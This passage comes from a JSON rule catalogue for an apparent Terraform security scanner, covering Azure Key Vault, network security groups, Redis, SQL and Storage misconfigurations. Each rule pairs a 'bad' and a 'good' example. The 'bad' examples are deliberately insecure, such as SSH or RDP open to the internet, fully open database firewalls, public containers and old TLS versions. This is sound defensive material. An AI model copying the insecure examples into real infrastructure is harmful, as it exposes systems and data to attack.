      "good": "resource \"azurerm_key_vault_key\" \"data\" {\n  name            = \"data\"\n  key_vault_id    = azurerm_key_vault.main.id\n  key_type        = \"RSA\"\n  key_size        = 2048\n  key_opts        = [\"decrypt\", \"encrypt\", \"unwrapKey\", \"wrapKey\"]\n  expiration_date = \"2026-12-31T00:00:00Z\"\n}\n",
      "fix": "Set `expiration_date` (RFC 3339) and rotate before it passes."
    },
    "references": [
      "https://learn.microsoft.com/azure/key-vault/keys/how-to-configure-key-rotation",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/key_vault_key#expiration_date"
    ],
    "checkov": [
      "CKV_AZURE_40"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-key-vault-network-default-allow",
    "title": "Key Vault firewall allows traffic from all networks",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "Without `network_acls { default_action = \"Deny\" }` (or with `\"Allow\"`), the vault's data plane accepts requests from any network: a stolen token or client secret can read secrets from anywhere on the internet. Vaults with `public_network_access_enabled = false` are not reported.",
    "help": {
      "bad": "resource \"azurerm_key_vault\" \"main\" {\n  name                     = \"acme-kv\"\n  location                 = \"westeurope\"\n  resource_group_name      = \"rg\"\n  tenant_id                = \"00000000-0000-0000-0000-000000000000\"\n  sku_name                 = \"standard\"\n  purge_protection_enabled = true\n\n  network_acls {\n    default_action = \"Allow\"\n    bypass         = \"AzureServices\"\n  }\n}\n",
      "good": "resource \"azurerm_key_vault\" \"main\" {\n  name                     = \"acme-kv\"\n  location                 = \"westeurope\"\n  resource_group_name      = \"rg\"\n  tenant_id                = \"00000000-0000-0000-0000-000000000000\"\n  sku_name                 = \"standard\"\n  purge_protection_enabled = true\n\n  network_acls {\n    default_action = \"Deny\"\n    bypass         = \"AzureServices\"\n    ip_rules       = [\"203.0.113.0/24\"]\n  }\n}\n",
      "fix": "Add `network_acls { default_action = \"Deny\" }` with the subnets and IP ranges that need access, or disable public network access and use a private endpoint."
    },
    "references": [
      "https://learn.microsoft.com/azure/key-vault/general/network-security",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/key_vault#network_acls"
    ],
    "checkov": [
      "CKV_AZURE_109"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-key-vault-purge-protection",
    "title": "Key Vault purge protection is not enabled",
    "severity": "medium",
    "cwe": [
      "CWE-693"
    ],
    "description": "Without purge protection, a deleted vault or key can be purged immediately instead of waiting out the soft-delete retention period. A compromised administrator, or a mistaken `terraform destroy`, can then permanently destroy the keys that encrypt your data.",
    "help": {
      "bad": "resource \"azurerm_key_vault\" \"main\" {\n  name                = \"acme-kv\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  tenant_id           = \"00000000-0000-0000-0000-000000000000\"\n  sku_name            = \"standard\"\n}\n",
      "good": "resource \"azurerm_key_vault\" \"main\" {\n  name                       = \"acme-kv\"\n  location                   = \"westeurope\"\n  resource_group_name        = \"rg\"\n  tenant_id                  = \"00000000-0000-0000-0000-000000000000\"\n  sku_name                   = \"standard\"\n  purge_protection_enabled   = true\n  soft_delete_retention_days = 90\n}\n",
      "fix": "Set `purge_protection_enabled = true` (it cannot be turned off again)."
    },
    "references": [
      "https://learn.microsoft.com/azure/key-vault/general/soft-delete-overview#purge-protection",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/key_vault#purge_protection_enabled"
    ],
    "checkov": [
      "CKV_AZURE_110",
      "CKV_AZURE_42"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021",
      "resilience"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-key-vault-secret-expiration",
    "title": "Key Vault secret has no expiration date",
    "severity": "low",
    "cwe": [
      "CWE-324"
    ],
    "description": "A secret without `expiration_date` stays valid forever: nothing prompts its rotation, and a leaked value keeps working. An expiry date makes rotation part of the lifecycle and lets Azure Policy and Event Grid warn before it lapses.",
    "help": {
      "bad": "resource \"azurerm_key_vault_secret\" \"db\" {\n  name         = \"db-password\"\n  value        = var.db_password\n  key_vault_id = azurerm_key_vault.main.id\n}\n",
      "good": "resource \"azurerm_key_vault_secret\" \"db\" {\n  name            = \"db-password\"\n  value           = var.db_password\n  key_vault_id    = azurerm_key_vault.main.id\n  expiration_date = \"2026-12-31T00:00:00Z\"\n}\n",
      "fix": "Set `expiration_date` (RFC 3339) and rotate before it passes."
    },
    "references": [
      "https://learn.microsoft.com/azure/key-vault/secrets/tutorial-rotation",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/key_vault_secret#expiration_date"
    ],
    "checkov": [
      "CKV_AZURE_41"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-key-vault-soft-delete",
    "title": "Key Vault soft delete is disabled or its retention shortened",
    "severity": "low",
    "cwe": [
      "CWE-693"
    ],
    "description": "Soft delete keeps deleted vaults, keys, secrets and certificates recoverable for a retention period (90 days unless `soft_delete_retention_days` lowers it, down to 7). `soft_delete_enabled = false` (azurerm 2.x) or a short retention means a deletion noticed late can no longer be undone.",
    "help": {
      "bad": "resource \"azurerm_key_vault\" \"main\" {\n  name                       = \"acme-kv\"\n  location                   = \"westeurope\"\n  resource_group_name        = \"rg\"\n  tenant_id                  = \"00000000-0000-0000-0000-000000000000\"\n  sku_name                   = \"standard\"\n  purge_protection_enabled   = true\n  soft_delete_retention_days = 7\n}\n",
      "good": "resource \"azurerm_key_vault\" \"main\" {\n  name                       = \"acme-kv\"\n  location                   = \"westeurope\"\n  resource_group_name        = \"rg\"\n  tenant_id                  = \"00000000-0000-0000-0000-000000000000\"\n  sku_name                   = \"standard\"\n  purge_protection_enabled   = true\n  soft_delete_retention_days = 90\n}\n",
      "fix": "Remove `soft_delete_enabled = false` and keep `soft_delete_retention_days` at 90 (the default)."
    },
    "references": [
      "https://learn.microsoft.com/azure/key-vault/general/soft-delete-overview",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/key_vault#soft_delete_retention_days"
    ],
    "checkov": [
      "CKV_AZURE_111"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021",
      "resilience"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-nsg-all-ports-open",
    "title": "Network security group allows every port from the internet",
    "severity": "high",
    "cwe": [
      "CWE-284"
    ],
    "description": "An inbound Allow rule admits all destination ports (`*` or 0-65535) from `*`, `Internet` or 0.0.0.0/0. Every service listening on the VMs behind the group, including databases and admin interfaces never meant to be public, becomes reachable from the internet.",
    "help": {
      "bad": "resource \"azurerm_network_security_group\" \"web\" {\n  name                = \"web\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n\n  security_rule {\n    name                       = \"allow-all\"\n    priority                   = 100\n    direction                  = \"Inbound\"\n    access                     = \"Allow\"\n    protocol                   = \"*\"\n    source_port_range          = \"*\"\n    destination_port_range     = \"*\"\n    source_address_prefix      = \"Internet\"\n    destination_address_prefix = \"*\"\n  }\n}\n",
      "good": "resource \"azurerm_network_security_group\" \"web\" {\n  name                = \"web\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n\n  security_rule {\n    name                       = \"allow-https\"\n    priority                   = 100\n    direction                  = \"Inbound\"\n    access                     = \"Allow\"\n    protocol                   = \"Tcp\"\n    source_port_range          = \"*\"\n    destination_port_range     = \"443\"\n    source_address_prefix      = \"Internet\"\n    destination_address_prefix = \"*\"\n  }\n}\n",
      "fix": "Allow only the ports the service needs (for example 443) and restrict the source for anything that is not a public endpoint."
    },
    "references": [
      "https://learn.microsoft.com/azure/virtual-network/network-security-groups-overview",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/network_security_group"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-nsg-rdp-open",
    "title": "Network security group allows RDP (port 3389) from the internet",
    "severity": "high",
    "cwe": [
      "CWE-284"
    ],
    "description": "An inbound Allow rule admits port 3389 from `*`, `Internet` or 0.0.0.0/0. Internet-facing Remote Desktop is a leading ransomware entry point: credential stuffing and RDP vulnerabilities (BlueKeep) are exploited at scale.",
    "help": {
      "bad": "resource \"azurerm_network_security_rule\" \"rdp\" {\n  name                        = \"allow-rdp\"\n  priority                    = 100\n  direction                   = \"Inbound\"\n  access                      = \"Allow\"\n  protocol                    = \"Tcp\"\n  source_port_range           = \"*\"\n  destination_port_range      = \"3389\"\n  source_address_prefix       = \"*\"\n  destination_address_prefix  = \"*\"\n  resource_group_name         = \"rg\"\n  network_security_group_name = \"nsg\"\n}\n",
      "good": "resource \"azurerm_network_security_rule\" \"rdp\" {\n  name                        = \"allow-rdp-from-bastion\"\n  priority                    = 100\n  direction                   = \"Inbound\"\n  access                      = \"Allow\"\n  protocol                    = \"Tcp\"\n  source_port_range           = \"*\"\n  destination_port_range      = \"3389\"\n  source_address_prefix       = \"10.0.250.0/26\"\n  destination_address_prefix  = \"*\"\n  resource_group_name         = \"rg\"\n  network_security_group_name = \"nsg\"\n}\n",
      "fix": "Limit `source_address_prefix` to administrative networks, or reach VMs through Azure Bastion or just-in-time VM access."
    },
    "references": [
      "https://learn.microsoft.com/azure/virtual-network/network-security-groups-overview",
      "https://learn.microsoft.com/azure/bastion/bastion-overview",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/network_security_rule"
    ],
    "checkov": [
      "CKV_AZURE_9"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-nsg-ssh-open",
    "title": "Network security group allows SSH (port 22) from the internet",
    "severity": "high",
    "cwe": [
      "CWE-284"
    ],
    "description": "An inbound Allow rule admits TCP port 22 from `*`, `Internet` or 0.0.0.0/0. Every VM behind the network security group is then exposed to SSH brute force and SSH daemon exploits from anywhere.",
    "help": {
      "bad": "resource \"azurerm_network_security_rule\" \"ssh\" {\n  name                        = \"allow-ssh\"\n  priority                    = 100\n  direction                   = \"Inbound\"\n  access                      = \"Allow\"\n  protocol                    = \"Tcp\"\n  source_port_range           = \"*\"\n  destination_port_range      = \"22\"\n  source_address_prefix       = \"*\"\n  destination_address_prefix  = \"*\"\n  resource_group_name         = \"rg\"\n  network_security_group_name = \"nsg\"\n}\n",
      "good": "resource \"azurerm_network_security_rule\" \"ssh\" {\n  name                        = \"allow-ssh-from-bastion\"\n  priority                    = 100\n  direction                   = \"Inbound\"\n  access                      = \"Allow\"\n  protocol                    = \"Tcp\"\n  source_port_range           = \"*\"\n  destination_port_range      = \"22\"\n  source_address_prefix       = \"10.0.250.0/26\"\n  destination_address_prefix  = \"*\"\n  resource_group_name         = \"rg\"\n  network_security_group_name = \"nsg\"\n}\n",
      "fix": "Limit `source_address_prefix` to administrative networks, or reach VMs through Azure Bastion or just-in-time VM access."
    },
    "references": [
      "https://learn.microsoft.com/azure/virtual-network/network-security-groups-overview",
      "https://learn.microsoft.com/azure/bastion/bastion-overview",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/network_security_rule"
    ],
    "checkov": [
      "CKV_AZURE_10"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-redis-min-tls",
    "title": "Azure Cache for Redis accepts TLS versions older than 1.2",
    "severity": "medium",
    "cwe": [
      "CWE-326",
      "CWE-327"
    ],
    "description": "`minimum_tls_version = \"1.0\"` or `\"1.1\"` lets clients connect with deprecated TLS versions that have known weaknesses; Azure is retiring them for Redis.",
    "help": {
      "bad": "resource \"azurerm_redis_cache\" \"cache\" {\n  name                = \"acme-cache\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  capacity            = 1\n  family              = \"C\"\n  sku_name            = \"Standard\"\n  minimum_tls_version = \"1.0\"\n}\n",
      "good": "resource \"azurerm_redis_cache\" \"cache\" {\n  name                = \"acme-cache\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  capacity            = 1\n  family              = \"C\"\n  sku_name            = \"Standard\"\n  minimum_tls_version = \"1.2\"\n}\n",
      "fix": "Set `minimum_tls_version = \"1.2\"`."
    },
    "references": [
      "https://learn.microsoft.com/azure/azure-cache-for-redis/cache-remove-tls-10-11",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/redis_cache#minimum_tls_version"
    ],
    "checkov": [
      "CKV_AZURE_148"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-redis-non-ssl-port",
    "title": "Azure Cache for Redis enables the non-TLS port",
    "severity": "high",
    "cwe": [
      "CWE-319"
    ],
    "description": "The non-TLS port (6379), enabled by `non_ssl_port_enabled = true` (`enable_non_ssl_port` before azurerm 4.0), accepts unencrypted connections: the access key and cached data cross the network in clear text.",
    "help": {
      "bad": "resource \"azurerm_redis_cache\" \"cache\" {\n  name                = \"acme-cache\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  capacity            = 1\n  family              = \"C\"\n  sku_name            = \"Standard\"\n  non_ssl_port_enabled = true\n}\n",
      "good": "resource \"azurerm_redis_cache\" \"cache\" {\n  name                = \"acme-cache\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  capacity            = 1\n  family              = \"C\"\n  sku_name            = \"Standard\"\n  non_ssl_port_enabled = false\n  minimum_tls_version  = \"1.2\"\n}\n",
      "fix": "Set `non_ssl_port_enabled = false` (the default) and connect on the TLS port 6380."
    },
    "references": [
      "https://learn.microsoft.com/azure/azure-cache-for-redis/cache-configure#access-ports",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/redis_cache#non_ssl_port_enabled"
    ],
    "checkov": [
      "CKV_AZURE_91"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-sql-aad-admin",
    "title": "Azure SQL server has no Microsoft Entra ID administrator",
    "severity": "low",
    "cwe": [
      "CWE-287"
    ],
    "description": "Without an Entra ID (Azure AD) administrator, the server can only be managed with SQL logins: shared passwords without MFA, conditional access or central deprovisioning. An Entra admin enables identity-based access for people and managed identities.",
    "help": {
      "bad": "resource \"azurerm_mssql_server\" \"main\" {\n  name                         = \"acme-sql\"\n  resource_group_name          = \"rg\"\n  location                     = \"westeurope\"\n  version                      = \"12.0\"\n  administrator_login          = \"sqladmin\"\n  administrator_login_password = var.sql_password\n}\n",
      "good": "resource \"azurerm_mssql_server\" \"main\" {\n  name                = \"acme-sql\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  version             = \"12.0\"\n\n  azuread_administrator {\n    login_username              = \"sql-admins\"\n    object_id                   = \"00000000-0000-0000-0000-000000000000\"\n    azuread_authentication_only = true\n  }\n}\n",
      "fix": "Add an `azuread_administrator` block (ideally with `azuread_authentication_only = true`)."
    },
    "references": [
      "https://learn.microsoft.com/azure/azure-sql/database/authentication-aad-configure",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_server#azuread_administrator"
    ],
    "checkov": [
      "CKV2_AZURE_7",
      "CKV2_AZURE_27"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A07:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-sql-auditing",
    "title": "Azure SQL server has no auditing policy",
    "severity": "low",
    "cwe": [
      "CWE-778"
    ],
    "description": "Without an extended auditing policy, logins, permission changes and queries on the server are not recorded, so a breach or misuse cannot be investigated. Auditing can be configured inline (`extended_auditing_policy`) or with `azurerm_mssql_server_extended_auditing_policy`.",
    "help": {
      "bad": "resource \"azurerm_mssql_server\" \"main\" {\n  name                          = \"acme-sql\"\n  resource_group_name           = \"rg\"\n  location                      = \"westeurope\"\n  version                       = \"12.0\"\n  public_network_access_enabled = false\n}\n",
      "good": "resource \"azurerm_mssql_server\" \"main\" {\n  name                          = \"acme-sql\"\n  resource_group_name           = \"rg\"\n  location                      = \"westeurope\"\n  version                       = \"12.0\"\n  public_network_access_enabled = false\n}\n\nresource \"azurerm_mssql_server_extended_auditing_policy\" \"main\" {\n  server_id              = azurerm_mssql_server.main.id\n  log_monitoring_enabled = true\n  retention_in_days      = 90\n}\n",
      "fix": "Add an `azurerm_mssql_server_extended_auditing_policy` for the server (to Log Analytics, a storage account or Event Hubs)."
    },
    "references": [
      "https://learn.microsoft.com/azure/azure-sql/database/auditing-overview",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_server_extended_auditing_policy"
    ],
    "checkov": [
      "CKV_AZURE_23"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A09:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-sql-firewall-open",
    "title": "Database firewall rule allows the whole internet",
    "severity": "high",
    "cwe": [
      "CWE-284"
    ],
    "description": "A server firewall rule from 0.0.0.0 to 255.255.255.255 (or any range spanning half the IPv4 space) lets every address on the internet reach the SQL, PostgreSQL, MySQL or MariaDB endpoint, leaving only the database password between the data and attackers. The 0.0.0.0-0.0.0.0 rule (\"allow Azure services\") is not reported here.",
    "help": {
      "bad": "resource \"azurerm_mssql_firewall_rule\" \"all\" {\n  name             = \"allow-all\"\n  server_id        = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Sql/servers/acme-sql\"\n  start_ip_address = \"0.0.0.0\"\n  end_ip_address   = \"255.255.255.255\"\n}\n",
      "good": "resource \"azurerm_mssql_firewall_rule\" \"office\" {\n  name             = \"office\"\n  server_id        = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Sql/servers/acme-sql\"\n  start_ip_address = \"203.0.113.0\"\n  end_ip_address   = \"203.0.113.255\"\n}\n",
      "fix": "Allow only the public IP ranges of known clients, or disable public access and use private endpoints."
    },
    "references": [
      "https://learn.microsoft.com/azure/azure-sql/database/firewall-configure",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_firewall_rule"
    ],
    "checkov": [
      "CKV_AZURE_11",
      "CKV2_AZURE_26"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A01:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-sql-min-tls",
    "title": "Azure SQL server accepts TLS versions older than 1.2",
    "severity": "medium",
    "cwe": [
      "CWE-326",
      "CWE-327"
    ],
    "description": "`minimum_tls_version = \"1.0\"`, `\"1.1\"` or `\"Disabled\"` lets clients connect with deprecated TLS versions that have known weaknesses. The default has been 1.2 since azurerm 3.0.",
    "help": {
      "bad": "resource \"azurerm_mssql_server\" \"main\" {\n  name                = \"acme-sql\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  version             = \"12.0\"\n  minimum_tls_version = \"1.0\"\n}\n",
      "good": "resource \"azurerm_mssql_server\" \"main\" {\n  name                = \"acme-sql\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  version             = \"12.0\"\n  minimum_tls_version = \"1.2\"\n}\n",
      "fix": "Set `minimum_tls_version = \"1.2\"`."
    },
    "references": [
      "https://learn.microsoft.com/azure/azure-sql/database/connectivity-settings#configure-minimum-tls-version",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_server#minimum_tls_version"
    ],
    "checkov": [
      "CKV_AZURE_52"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-sql-public-network-access",
    "title": "Azure SQL server is reachable over its public endpoint",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "With public network access on (the default) and server firewall rules, the SQL endpoint is reachable from the internet and exposed to password spraying and to any over-broad firewall rule. Servers that leave the setting at its default and have no firewall rule in the configuration are not reported: no client can reach them publicly.",
    "help": {
      "bad": "resource \"azurerm_mssql_server\" \"main\" {\n  name                          = \"acme-sql\"\n  resource_group_name           = \"rg\"\n  location                      = \"westeurope\"\n  version                       = \"12.0\"\n  minimum_tls_version           = \"1.2\"\n  public_network_access_enabled = true\n}\n",
      "good": "resource \"azurerm_mssql_server\" \"main\" {\n  name                          = \"acme-sql\"\n  resource_group_name           = \"rg\"\n  location                      = \"westeurope\"\n  version                       = \"12.0\"\n  minimum_tls_version           = \"1.2\"\n  public_network_access_enabled = false\n}\n",
      "fix": "Set `public_network_access_enabled = false` and connect through a private endpoint."
    },
    "references": [
      "https://learn.microsoft.com/azure/azure-sql/database/connectivity-settings#deny-public-network-access",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_server#public_network_access_enabled"
    ],
    "checkov": [
      "CKV_AZURE_113"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-sql-tde-disabled",
    "title": "Azure SQL database has transparent data encryption turned off",
    "severity": "low",
    "cwe": [
      "CWE-311"
    ],
    "description": "Transparent data encryption encrypts database files, backups and logs at rest and is on by default. `transparent_data_encryption_enabled = false` leaves them readable to anyone who obtains the files or a backup.",
    "help": {
      "bad": "resource \"azurerm_mssql_database\" \"app\" {\n  name                                = \"app\"\n  server_id                           = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Sql/servers/acme-sql\"\n  sku_name                            = \"S0\"\n  transparent_data_encryption_enabled = false\n}\n",
      "good": "resource \"azurerm_mssql_database\" \"app\" {\n  name      = \"app\"\n  server_id = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Sql/servers/acme-sql\"\n  sku_name  = \"S0\"\n}\n",
      "fix": "Remove `transparent_data_encryption_enabled = false` (the default is `true`)."
    },
    "references": [
      "https://learn.microsoft.com/azure/azure-sql/database/transparent-data-encryption-tde-overview",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_database#transparent_data_encryption_enabled"
    ],
    "checkov": [
      "CKV2_AZURE_25"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-storage-container-public",
    "title": "Storage container allows anonymous public read access",
    "severity": "high",
    "cwe": [
      "CWE-284",
      "CWE-200"
    ],
    "description": "`container_access_type = \"blob\"` lets anyone on the internet read every blob whose URL they know or guess; `\"container\"` also lets them list the container. Public containers are a frequent source of data leaks.",
    "help": {
      "bad": "resource \"azurerm_storage_container\" \"reports\" {\n  name                  = \"reports\"\n  storage_account_name  = \"acmedata\"\n  container_access_type = \"container\"\n}\n",
      "good": "resource \"azurerm_storage_container\" \"reports\" {\n  name                  = \"reports\"\n  storage_account_name  = \"acmedata\"\n  container_access_type = \"private\"\n}\n",
      "fix": "Use `container_access_type = \"private\"` (the default) and share individual blobs with short-lived SAS tokens or through a CDN."
    },
    "references": [
      "https://learn.microsoft.com/azure/storage/blobs/anonymous-read-access-configure",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_container#container_access_type"
    ],
    "checkov": [
      "CKV_AZURE_34"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A01:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-storage-https-only",
    "title": "Storage account accepts unencrypted HTTP requests",
    "severity": "high",
    "cwe": [
      "CWE-319"
    ],
    "description": "With secure transfer turned off (`https_traffic_only_enabled = false`, `enable_https_traffic_only` before azurerm 4.0), the blob, file, queue and table endpoints accept plain HTTP: shared keys, SAS tokens and data cross the network in clear text.",
    "help": {
      "bad": "resource \"azurerm_storage_account\" \"data\" {\n  name                       = \"acmedata\"\n  resource_group_name        = \"rg\"\n  location                   = \"westeurope\"\n  account_tier               = \"Standard\"\n  account_replication_type   = \"GRS\"\n  https_traffic_only_enabled = false\n}\n",
      "good": "resource \"azurerm_storage_account\" \"data\" {\n  name                       = \"acmedata\"\n  resource_group_name        = \"rg\"\n  location                   = \"westeurope\"\n  account_tier               = \"Standard\"\n  account_replication_type   = \"GRS\"\n  https_traffic_only_enabled = true\n}\n",
      "fix": "Set `https_traffic_only_enabled = true` (azurerm 4.x) or `enable_https_traffic_only = true` (3.x), or remove the setting: the default is true."
    },
    "references": [
      "https://learn.microsoft.com/azure/storage/common/storage-require-secure-transfer",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_account#https_traffic_only_enabled"
    ],
    "checkov": [
      "CKV_AZURE_3"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-storage-infrastructure-encryption",
    "title": "Storage account does not use infrastructure (double) encryption",
    "severity": "low",
    "cwe": [
      "CWE-311"
    ],
    "description": "Azure Storage always encrypts data at rest once. Infrastructure encryption adds a second layer with a different algorithm and key, protecting against a compromise of one of them; it is required by some compliance regimes and can only be chosen when the account is created.",
    "help": {
      "bad": "resource \"azurerm_storage_account\" \"data\" {\n  name                     = \"acmedata\"\n  resource_group_name      = \"rg\"\n  location                 = \"westeurope\"\n  account_tier             = \"Standard\"\n  account_replication_type = \"GRS\"\n}\n",
      "good": "resource \"azurerm_storage_account\" \"data\" {\n  name                              = \"acmedata\"\n  resource_group_name               = \"rg\"\n  location                          = \"westeurope\"\n  account_tier                      = \"Standard\"\n  account_replication_type          = \"GRS\"\n  infrastructure_encryption_enabled = true\n}\n",
      "fix": "Set `infrastructure_encryption_enabled = true` when creating the account (changing it recreates the account)."
    },
    "references": [
      "https://learn.microsoft.com/azure/storage/common/infrastructure-encryption-enable",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_account#infrastructure_encryption_enabled"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-storage-min-tls",
    "title": "Storage account accepts TLS versions older than 1.2",
    "severity": "medium",
    "cwe": [
      "CWE-326",
      "CWE-327"
    ],
    "description": "`min_tls_version = \"TLS1_0\"` or `\"TLS1_1\"` lets clients negotiate deprecated TLS versions with known weaknesses (BEAST, weak cipher suites). Azure is retiring TLS 1.0/1.1 for Storage; 1.2 is the default since azurerm 3.0.",
    "help": {
      "bad": "resource \"azurerm_storage_account\" \"data\" {\n  name                     = \"acmedata\"\n  resource_group_name      = \"rg\"\n  location                 = \"westeurope\"\n  account_tier             = \"Standard\"\n  account_replication_type = \"GRS\"\n  min_tls_version          = \"TLS1_0\"\n}\n",
      "good": "resource \"azurerm_storage_account\" \"data\" {\n  name                     = \"acmedata\"\n  resource_group_name      = \"rg\"\n  location                 = \"westeurope\"\n  account_tier             = \"Standard\"\n  account_replication_type = \"GRS\"\n  min_tls_version          = \"TLS1_2\"\n}\n",
      "fix": "Set `min_tls_version = \"TLS1_2\"`."
    },
    "references": [
      "https://learn.microsoft.com/azure/storage/common/transport-layer-security-configure-minimum-version",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_account#min_tls_version"
    ],
    "checkov": [
      "CKV_AZURE_44"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-storage-network-default-allow",
    "title": "Storage account firewall allows traffic from all networks",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "With `network_rules { default_action = \"Allow\" }` (or no network rules at all), the storage endpoints accept requests from any network, so a leaked key or SAS token can be used from anywhere. A default action of `Deny` with explicit virtual network and IP rules (or private endpoints with public network access disabled) limits where the account can be reached from.",
    "help": {
      "bad": "resource \"azurerm_storage_account\" \"data\" {\n  name                     = \"acmedata\"\n  resource_group_name      = \"rg\"\n  location                 = \"westeurope\"\n  account_tier             = \"Standard\"\n  account_replication_type = \"GRS\"\n\n  network_rules {\n    default_action = \"Allow\"\n  }\n}\n",
      "good": "resource \"azurerm_storage_account\" \"data\" {\n  name                     = \"acmedata\"\n  resource_group_name      = \"rg\"\n  location                 = \"westeurope\"\n  account_tier             = \"Standard\"\n  account_replication_type = \"GRS\"\n\n  network_rules {\n    default_action             = \"Deny\"\n    bypass                     = [\"AzureServices\"]\n    virtual_network_subnet_ids = [\"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vnet/subnets/app\"]\n  }\n}\n",
      "fix": "Set `network_rules { default_action = \"Deny\" }` with the subnets and IP ranges that need access, or disable public network access and use private endpoints."
    },
    "references": [
      "https://learn.microsoft.com/azure/storage/common/storage-network-security",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_account#network_rules"
    ],
    "checkov": [
      "CKV_AZURE_35"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-storage-public-blob-access",
